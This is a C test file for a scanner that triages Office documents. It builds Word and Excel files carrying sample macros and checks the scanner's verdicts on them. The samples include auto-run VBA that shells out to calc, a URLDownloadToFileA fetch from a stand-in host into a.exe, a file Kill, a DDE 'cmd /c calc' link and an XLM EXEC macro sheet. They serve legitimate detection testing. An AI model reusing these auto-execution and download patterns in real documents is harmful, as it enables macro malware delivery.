/*
 * test_office_scenarios.c - Office documents of the kinds the corpus draws
 * from (oletools, POI/Tika, ClamAV, MacroMilter test files), built here and
 * scanned through the whole engine with the shipped rules: categories and
 * the default-policy action must follow the corpus labelling conventions.
 */
#include "config.h"

#include <string.h>

#include "office_scen.h"

/* ---- VBA ------------------------------------------------------------------ */

typedef struct vba_case {
	const char *what;
	host h;
	const char *module;      /* standard module name */
	bool document;
	const char *source;
	const char *must;
	const char *mustnot;
	triage_action min;
} vba_case;

static const vba_case vba_cases[] = {
	{"AutoOpen in a standard module", HOST_WORD, "NewMacros", false,
	 "Attribute VB_Name = \"NewMacros\"\r\nSub AutoOpen()\r\n  Shell \"calc.exe\"\r\nEnd Sub\r\n",
	 "macro-vba-suspicious", NULL, A_REJECT},
	{"Auto_Open in Excel", HOST_EXCEL, "Module1", false,
	 "Sub Auto_Open()\r\n  Set o = CreateObject(\"WScript.Shell\")\r\n  o.Run \"calc\"\r\nEnd Sub\r\n",
	 "macro-vba-suspicious", NULL, A_REJECT},
	{"Workbook_Open in ThisWorkbook", HOST_EXCEL, "ThisWorkbook", true,
	 "Private Sub Workbook_Open()\r\n  URLDownloadToFileA 0, \"http://x/a\", \"a.exe\", 0, 0\r\nEnd Sub\r\n",
	 "macro-vba-suspicious", NULL, A_REJECT},
	{"Document_Close with Kill", HOST_WORD, "ThisDocument", true,
	 "Private Sub Document_Close()\r\n  Kill \"C:\\temp\\x.txt\"\r\nEnd Sub\r\n",
	 "macro-vba-suspicious", NULL, A_REJECT},
	{"CommandButton1_Click", HOST_WORD, "ThisDocument", true,
	 "Private Sub CommandButton1_Click()\r\n  MsgBox \"hello\"\r\nEnd Sub\r\n",
	 "macro-vba-autoexec", "macro-vba-suspicious", A_QUAR},
	{"TextBox1_Change", HOST_EXCEL, "Sheet1", true,
	 "Private Sub TextBox1_Change()\r\n  Range(\"A1\").Value = TextBox1.Text\r\nEnd Sub\r\n",
	 "macro-vba-autoexec", "macro-vba-suspicious", A_QUAR},
	{"InkPicture1_Painted + Shell", HOST_WORD, "ThisDocument", true,
	 "Private Sub InkPicture1_Painted(ByVal hDC As Long, ByVal Rect As Object)\r\n"
	 "  Shell \"cmd /c calc\", vbHide\r\nEnd Sub\r\n",
	 "macro-vba-suspicious", NULL, A_REJECT},
	{"Frame1_Layout", HOST_WORD, "ThisDocument", true,
	 "Private Sub Frame1_Layout()\r\n  Label1.Caption = \"x\"\r\nEnd Sub\r\n",
	 "macro-vba-autoexec", "macro-vba-suspicious", A_QUAR},
	{"Declare URLDownloadToFileA without autoexec", HOST_WORD, "Module1", false,
	 "Private Declare Function URLDownloadToFileA Lib \"urlmon\" (ByVal a As Long) As Long\r\n"
	 "Sub Fetch()\r\n  URLDownloadToFileA 0, \"u\", \"f\", 0, 0\r\nEnd Sub\r\n",
	 "macro-vba", "macro-vba-autoexec,macro-vba-suspicious", A_BANNER},
	{"ordinary formatting helper", HOST_WORD, "Formatting", false,
	 "Sub FormatTable()\r\n  Selection.Tables(1).Style = \"Grid Table 4\"\r\n"
	 "  Selection.Font.Bold = True\r\nEnd Sub\r\n",
	 "macro-vba", "macro-vba-autoexec,macro-vba-suspicious", A_BANNER},
	{"autoexec only: MsgBox in Document_Open", HOST_WORD, "ThisDocument", true,
	 "Private Sub Document_Open()\r\n  MsgBox \"Welcome\"\r\nEnd Sub\r\n",
	 "macro-vba-autoexec", "macro-vba-suspicious", A_QUAR},
	/* mraptor matches the whole text, comments and strings included. */
	{"Shell only in a comment, with Document_Open", HOST_WORD, "ThisDocument", true,
	 "Private Sub Document_Open()\r\n  ' do not Shell out here\r\n  MsgBox \"x\"\r\nEnd Sub\r\n",
	 "macro-vba-suspicious", NULL, A_REJECT},
	/* mraptor 0.60 has no Initialize trigger: a user form's setup is not autoexec. */
	{"UserForm_Initialize", HOST_EXCEL, "UserForm1", true,
	 "Private Sub UserForm_Initialize()\r\n  Call FillList\r\nEnd Sub\r\n",
	 "macro-vba", "macro-vba-autoexec,macro-vba-suspicious", A_BANNER},
	/* Python's \w is Unicode: a control named in Japanese still has its event. */
	{"non-ASCII control name _Click", HOST_WORD, "ThisDocument", true,
	 "Private Sub \xe5\xae\x9f\xe8\xa1\x8c_Click()\r\n  MsgBox \"x\"\r\nEnd Sub\r\n",
	 "macro-vba-autoexec", "macro-vba-suspicious", A_QUAR},
	{"non-ASCII module name", HOST_EXCEL, "Modul\xc3\xa9", false,
	 "Sub Auto_Open()\r\n  Shell \"calc\"\r\nEnd Sub\r\n",
	 "macro-vba-suspicious", NULL, A_REJECT},
	{"line continuation splits Open ... For Binary", HOST_WORD, "ThisDocument", true,
	 "Sub AutoClose()\r\n  Open \"C:\\x.bin\" _\r\n    For Binary As #1\r\nEnd Sub\r\n",
	 "macro-vba-suspicious", NULL, A_REJECT},
};

/* Every VBA case in a .doc or .xls. */
static void
test_vba_ole(void **state)
{
	(void)state;
	for (size_t i = 0; i < G_N_ELEMENTS(vba_cases); i++) {
		const vba_case *c = &vba_cases[i];
		olefix_module m = {c->module, c->source, NULL, 0, c->document};
		GByteArray *b = ole_with_vba(c->h, &m, 1);
		char *name = g_strdup_printf("%s (%s)", c->what,
					     c->h == HOST_WORD ? "doc" : "xls");
		triage_report *r = th_scan_raw(scanner, c->h == HOST_WORD ? "a.doc" : "a.xls",
					       b->data, b->len);
		expect(r, name, c->must, c->mustnot, c->min, A_REJECT);
		g_free(name);
		g_byte_array_free(b, TRUE);
	}
	check_done();
}

/* Package parts of a macro-enabled OOXML file of this flavour. */
typedef struct flavour {
	const char *ext;
	const char *main_part;
	const char *main_ct;
	const char *vba_part;
} flavour;

static const flavour flavours[] = {
	{"docm", "word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml", "word/vbaProject.bin"},
	{"dotm", "word/document.xml", "application/vnd.ms-word.template.macroEnabledTemplate.main+xml", "word/vbaProject.bin"},
	{"xlsm", "xl/workbook.xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml", "xl/vbaProject.bin"},
	{"xlam", "xl/workbook.xml", "application/vnd.ms-excel.addin.macroEnabled.main+xml", "xl/vbaProject.bin"},
	{"pptm", "ppt/presentation.xml", "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml", "ppt/vbaProject.bin"},
	{"ppsm", "ppt/presentation.xml", "application/vnd.ms-powerpoint.slideshow.macroEnabled.main+xml", "ppt/vbaProject.bin"},
	/* A renamed project part, found through its relationship and content type. */
	{"docm", "word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml", "word/macros/projdata.dat"},
};

/* The same macro in every macro-enabled OOXML flavour. */
static void
test_vba_ooxml_flavours(void **state)
{
	(void)state;
	olefix_module m = {"ThisDocument",
			   "Private Sub Document_Open()\r\n  Shell \"calc.exe\"\r\nEnd Sub\r\n",
			   NULL, 0, true};
	GByteArray *bin = vba_bin(&m, 1);
	for (size_t i = 0; i < G_N_ELEMENTS(flavours); i++) {
		const flavour *f = &flavours[i];
		char *dir = g_path_get_dirname(f->main_part);
		char *base = g_path_get_basename(f->main_part);
		char *ct = g_strdup_printf(CT_HEAD "<Override PartName=\"/%s\" ContentType=\"%s\"/>"
					   "<Override PartName=\"/%s\" ContentType=\"application/vnd.ms-office.vbaProject\"/></Types>",
					   f->main_part, f->main_ct, f->vba_part);
		char *root = g_strdup_printf(RELS_HEAD "<Relationship Id=\"rId1\" Type=\"" REL_NS
					     "officeDocument\" Target=\"%s\"/>" RELS_END, f->main_part);
		char *vrel = g_strrstr(f->vba_part, "/") + 1;
		char *vpath = g_str_has_prefix(f->vba_part + strlen(dir) + 1, "macros/")
			? g_strdup(f->vba_part + strlen(dir) + 1) : g_strdup(vrel);
		char *rels_name = g_strdup_printf("%s/_rels/%s.rels", dir, base);
		char *rels = g_strdup_printf(RELS_HEAD "<Relationship Id=\"rId9\" Type=\"" MSREL_NS
					     "vbaProject\" Target=\"%s\"/>" RELS_END, vpath);
		fx_part parts[] = {
			{"[Content_Types].xml", ct, 0},
			{"_rels/.rels", root, 0},
			{f->main_part, XML_HEAD "<root/>", 0},
			{rels_name, rels, 0},
			{f->vba_part, (const char *)bin->data, bin->len},
		};
		char *name = g_strdup_printf("macro.%s (%s)", f->ext, f->vba_part);
		GBytes *g = zip_of(parts, G_N_ELEMENTS(parts));
		gsize len;
		const void *d = g_bytes_get_data(g, &len);
		triage_report *r = th_scan_raw(scanner, name, d, len);
		expect(r, name, "macro-vba-suspicious", NULL, A_REJECT, A_REJECT);
		g_bytes_unref(g);
		g_free(name);
		g_free(rels);
		g_free(rels_name);
		g_free(vpath);
		g_free(root);
		g_free(ct);
		g_free(base);
		g_free(dir);
	}
	g_byte_array_free(bin, TRUE);
	check_done();
}

/* A macro whose code is spread over two modules still counts as one project. */
static void
test_vba_two_modules(void **state)
{
	(void)state;
	olefix_module m[] = {
		{"ThisDocument", "Private Sub Document_Open()\r\n  Run1\r\nEnd Sub\r\n", NULL, 0, true},
		{"Helpers", "Sub Run1()\r\n  CreateObject(\"Shell.Application\").ShellExecute \"x\"\r\nEnd Sub\r\n",
		 NULL, 0, false},
	};
	GByteArray *b = ole_with_vba(HOST_WORD, m, 2);
	expect_raw("two.doc", b->data, b->len, "macro-vba-suspicious", NULL, A_REJECT, A_REJECT);
	g_byte_array_free(b, TRUE);
	check_done();
}

/* A 4096-byte raw (uncompressed) chunk: the flag bit clear, body copied as is. */
static void
test_vba_raw_chunk(void **state)
{
	(void)state;
	GString *src = g_string_new("Attribute VB_Name = \"Module1\"\r\n"
				    "Sub AutoOpen()\r\n  Shell \"calc\"\r\nEnd Sub\r\n");
	while (src->len < 4096)
		g_string_append_c(src, '\'');
	g_string_truncate(src, 4096);
	GByteArray *c = g_byte_array_new();
	guint8 sig = 1;
	g_byte_array_append(c, &sig, 1);
	le16(c, 0x3000 | 0x0FFF); /* size 4098 - 3, flag 0: raw */
	g_byte_array_append(c, (const guint8 *)src->str, 4096);
	/* The project's dir names Module1 at offset 0; its stream is this container. */
	olefix tmp;
	olefix_begin(&tmp);
	olefix_module m = {"Module1", "x", NULL, 0, false};
	olefix_vba_project(tmp.root, &m, 1, false);
	GByteArray *tb = olefix_end(&tmp);
	GsfInput *in = gsf_input_memory_new(tb->data, tb->len, FALSE);
	GsfInfile *inf = gsf_infile_msole_new(in, NULL);
	GsfInfile *tv = GSF_INFILE(gsf_infile_child_by_name(inf, "VBA"));
	GsfInput *dir = gsf_infile_child_by_name(tv, "dir");
	gsf_off_t dl = gsf_input_size(dir);
	const guint8 *dd = gsf_input_read(dir, (size_t)dl, NULL);

	olefix f;
	olefix_begin(&f);
	static const unsigned char fib[64] = {0xEC, 0xA5, 0xC1, 0x00};
	olefix_stream(f.root, "WordDocument", fib, sizeof fib);
	GsfOutfile *proj = olefix_storage(f.root, "Macros");
	GsfOutfile *vba = olefix_storage(proj, "VBA");
	olefix_stream(vba, "Module1", c->data, c->len);
	olefix_stream(vba, "dir", dd, (size_t)dl);
	guint8 vp[7] = {0xCC, 0x61, 0xFF, 0xFF, 0x00, 0x00, 0x00};
	olefix_stream(vba, "_VBA_PROJECT", vp, sizeof vp);
	olefix_close(vba);
	olefix_stream(proj, "PROJECT", "Module=Module1\r\n", 16);
	olefix_close(proj);
	GByteArray *doc = olefix_end(&f);
	g_object_unref(dir);
	g_object_unref(tv);
	g_object_unref(inf);
	g_object_unref(in);
	g_byte_array_free(tb, TRUE);
	expect_raw("raw.doc", doc->data, doc->len, "macro-vba-suspicious", NULL, A_REJECT, A_REJECT);
	g_byte_array_free(doc, TRUE);
	g_byte_array_free(c, TRUE);
	g_string_free(src, TRUE);
	check_done();
}

/* MODULEOFFSET past the stream or into the p-code: the source is still read. */
static void
test_vba_bad_offset(void **state)
{
	(void)state;
	unsigned char pcode[64];
	for (size_t i = 0; i < sizeof pcode; i++)
		pcode[i] = (unsigned char)(0x80 + i);
	olefix_module m = {"ThisDocument",
			   "Attribute VB_Name = \"ThisDocument\"\r\n"
			   "Private Sub Document_Open()\r\n  Shell \"calc.exe\"\r\nEnd Sub\r\n",
			   pcode, sizeof pcode, true};
	const uint32_t offsets[] = {0x7FFFFFF0u, 5, 0};
	for (size_t i = 0; i < G_N_ELEMENTS(offsets); i++) {
		olefix f;
		olefix_begin(&f);
		static const unsigned char fib[64] = {0xEC, 0xA5, 0xC1, 0x00};
		olefix_stream(f.root, "WordDocument", fib, sizeof fib);
		GsfOutfile *proj = olefix_storage(f.root, "Macros");
		olefix_vba_project_offsets(proj, &m, 1, true, &offsets[i]);
		olefix_close(proj);
		GByteArray *doc = olefix_end(&f);
		char *name = g_strdup_printf("offset %u", offsets[i]);
		triage_report *r = th_scan_raw(scanner, "off.doc", doc->data, doc->len);
		expect(r, name, "macro-vba-suspicious", NULL, A_REJECT, A_REJECT);
		g_free(name);
		g_byte_array_free(doc, TRUE);
	}
	check_done();
}

/* ---- XLM ------------------------------------------------------------------ */

/* One BIFF workbook in an OLE file (stream "Workbook", or "Book" for BIFF5). */
static GByteArray *
xls_of(GByteArray *wb, const char *stream)
{
	olefix f;
	olefix_begin(&f);
	olefix_stream(f.root, stream, wb->data, wb->len);
	return olefix_end(&f);
}

static void
expect_xls(const char *what, unsigned ver, const bsheet *sh, size_t nsh,
	   const char *const *names, size_t nn, const int *bi, const char *must,
	   const char *mustnot, triage_action min, triage_action max)
{
	GByteArray *wb = biff_workbook(ver, sh, nsh, names, nn, bi, NULL);
	GByteArray *x = xls_of(wb, ver == 0x0600 ? "Workbook" : "Book");
	triage_report *r = th_scan_raw(scanner, "book.xls", x->data, x->len);
	expect(r, what, must, mustnot, min, max);
	g_byte_array_free(x, TRUE);
	g_byte_array_free(wb, TRUE);
}

static void
test_xlm_biff(void **state)
{
	(void)state;
	bsheet vis[] = {{"Sheet1", 0, 0}, {"Macro1", 0, 1}};
	bsheet hid[] = {{"Sheet1", 0, 0}, {"Macro1", 1, 1}};
	bsheet vhid[] = {{"Sheet1", 0, 0}, {"Macro1", 2, 1}};
	bsheet chart[] = {{"Sheet1", 0, 0}, {"Chart1", 2, 2}, {"Hidden", 1, 0}};
	const char *ao[] = {"Auto_Open"};
	int bi1[] = {1};
	int user[] = {-1};
	const char *lower[] = {"auto_open"};
	const char *ao1[] = {"Auto_Open1"};

	expect_xls("visible macro sheet", 0x0600, vis, 2, ao, 1, bi1,
		   "macro-xlm", "macro-xlm-hidden", A_QUAR, A_REJECT);
	expect_xls("hidden macro sheet", 0x0600, hid, 2, ao, 1, bi1,
		   "macro-xlm-hidden", NULL, A_REJECT, A_REJECT);
	expect_xls("very hidden macro sheet", 0x0600, vhid, 2, ao, 1, bi1,
		   "macro-xlm-hidden", NULL, A_REJECT, A_REJECT);
	expect_xls("user name auto_open", 0x0600, vis, 2, lower, 1, user,
		   "macro-xlm", NULL, A_QUAR, A_REJECT);
	expect_xls("user name Auto_Open1", 0x0600, vis, 2, ao1, 1, user,
		   "macro-xlm", NULL, A_QUAR, A_REJECT);
	expect_xls("Excel 95 (BIFF5) macro sheet", 0x0500, vis, 2, ao, 1, bi1,
		   "macro-xlm", "macro-xlm-hidden", A_QUAR, A_REJECT);
	expect_xls("Excel 95 (BIFF5) very hidden macro sheet", 0x0500, vhid, 2, NULL, 0, NULL,
		   "macro-xlm-hidden", NULL, A_REJECT, A_REJECT);
	/* A hidden chart and a hidden worksheet are no macros (POI TwoSheetsOneHidden). */
	expect_xls("hidden chart and worksheet", 0x0600, chart, 3, NULL, 0, NULL,
		   NULL, "macro-xlm,macro-xlm-hidden,corrupt", A_ACCEPT, A_TAG);
	check_done();
}

/* SupBook records: a DDE link (cmd\x03/c calc) and an external workbook. */
static void
test_dde_xls(void **state)
{
	(void)state;
	bsheet sh[] = {{"Sheet1", 0, 0}};
	static const char dde_path[] = "cmd\x03/c calc";
	static const char ext_path[] = "\x01\x01\x40" "C:\\Budget\\Book2.xls";
	const struct { const char *path; size_t len; unsigned ctab; bool dde; } cases[] = {
		{dde_path, sizeof dde_path - 1, 0, true},
		{ext_path, sizeof ext_path - 1, 1, false},
	};
	for (size_t i = 0; i < G_N_ELEMENTS(cases); i++) {
		GByteArray *sb = g_byte_array_new();
		le16(sb, cases[i].ctab);
		le16(sb, (unsigned)cases[i].len);
		guint8 hb = 0;
		g_byte_array_append(sb, &hb, 1);
		g_byte_array_append(sb, (const guint8 *)cases[i].path, (guint)cases[i].len);
		if (cases[i].ctab) {
			le16(sb, 6);
			g_byte_array_append(sb, &hb, 1);
			g_byte_array_append(sb, (const guint8 *)"Sheet1", 6);
		}
		GByteArray *extra = g_byte_array_new();
		biff_rec(extra, 0x01AE, sb->data, sb->len);
		GByteArray *wb = biff_workbook(0x0600, sh, 1, NULL, 0, NULL, extra);
		GByteArray *x = xls_of(wb, "Workbook");
		if (cases[i].dde)
			expect_raw("dde.xls", x->data, x->len, "office-dde", NULL, A_QUAR, A_REJECT);
		else
			expect_raw("extbook.xls", x->data, x->len, NULL, "office-dde", A_ACCEPT, A_TAG);
		g_byte_array_free(x, TRUE);
		g_byte_array_free(wb, TRUE);
		g_byte_array_free(extra, TRUE);
		g_byte_array_free(sb, TRUE);
	}
	check_done();
}


/* An xlsm/xltm with a macro sheet in state `state` ("" for visible). */
static void
expect_xlsx_macrosheet(const char *what, const char *ext, const char *state_attr,
		       const char *must, const char *mustnot, triage_action min)
{
	char *wb = g_strdup_printf(XML_HEAD "<workbook " WB_NS "><sheets>"
		"<sheet name=\"Sheet1\" sheetId=\"1\" r:id=\"rId1\"/>"
		"<sheet name=\"Macro1\" sheetId=\"2\" %s r:id=\"rId2\"/></sheets>"
		"<definedNames><definedName name=\"_xlnm.Auto_Open\">Macro1!$A$1</definedName>"
		"</definedNames></workbook>", state_attr);
	fx_part parts[] = {
		{"[Content_Types].xml", CT_HEAD
		 "<Override PartName=\"/xl/workbook.xml\" ContentType=\"application/vnd.ms-excel.sheet.macroEnabled.main+xml\"/>"
		 "<Override PartName=\"/xl/worksheets/sheet1.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml\"/>"
		 "<Override PartName=\"/xl/macrosheets/sheet1.xml\" ContentType=\"application/vnd.ms-excel.macrosheet+xml\"/></Types>", 0},
		{"_rels/.rels", RELS_HEAD "<Relationship Id=\"rId1\" Type=\"" REL_NS
		 "officeDocument\" Target=\"xl/workbook.xml\"/>" RELS_END, 0},
		{"xl/workbook.xml", wb, 0},
		{"xl/_rels/workbook.xml.rels", RELS_HEAD
		 "<Relationship Id=\"rId1\" Type=\"" REL_NS "worksheet\" Target=\"worksheets/sheet1.xml\"/>"
		 "<Relationship Id=\"rId2\" Type=\"" MSREL_NS "xlMacrosheet\" Target=\"macrosheets/sheet1.xml\"/>"
		 RELS_END, 0},
		{"xl/worksheets/sheet1.xml", XML_HEAD "<worksheet " WB_NS "><sheetData/></worksheet>", 0},
		{"xl/macrosheets/sheet1.xml", XML_HEAD "<xm:macrosheet xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\" "
		 WB_NS "><sheetData><row r=\"1\"><c r=\"A1\"><f>EXEC(\"calc.exe\")</f></c></row>"
		 "<row r=\"2\"><c r=\"A2\"><f>HALT()</f></c></row></sheetData></xm:macrosheet>", 0},
	};
	char *name = g_strdup_printf("book.%s", ext);
	GBytes *g = zip_of(parts, G_N_ELEMENTS(parts));
	gsize len;
	const void *d = g_bytes_get_data(g, &len);
	triage_report *r = th_scan_raw(scanner, name, d, len);
	expect(r, what, must, mustnot, min, A_REJECT);
	g_bytes_unref(g);
	g_free(name);
	g_free(wb);
}

static void
test_xlm_ooxml(void **state)
{
	(void)state;
	expect_xlsx_macrosheet("xlsm visible", "xlsm", "", "macro-xlm", "macro-xlm-hidden", A_QUAR);
	expect_xlsx_macrosheet("xlsm hidden", "xlsm", "state=\"hidden\"", "macro-xlm-hidden", NULL, A_REJECT);
	expect_xlsx_macrosheet("xlsm veryHidden", "xlsm", "state=\"veryHidden\"", "macro-xlm-hidden", NULL, A_REJECT);
	expect_xlsx_macrosheet("xltm template", "xltm", "", "macro-xlm", NULL, A_QUAR);
	check_done();
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_vba_ole),
		cmocka_unit_test(test_vba_ooxml_flavours),
		cmocka_unit_test(test_vba_two_modules),
		cmocka_unit_test(test_vba_raw_chunk),
		cmocka_unit_test(test_vba_bad_offset),
		cmocka_unit_test(test_xlm_biff),
		cmocka_unit_test(test_dde_xls),
		cmocka_unit_test(test_xlm_ooxml),
		cmocka_unit_test(test_template_injection),
		cmocka_unit_test(test_external_links),
		cmocka_unit_test(test_dde_ooxml),
		cmocka_unit_test(test_embedded_ooxml),
		cmocka_unit_test(test_rtf),
		cmocka_unit_test(test_dde_doc),
		cmocka_unit_test(test_dde_text),
	};
	return cmocka_run_group_tests(tests, scen_setup, scen_teardown);
}
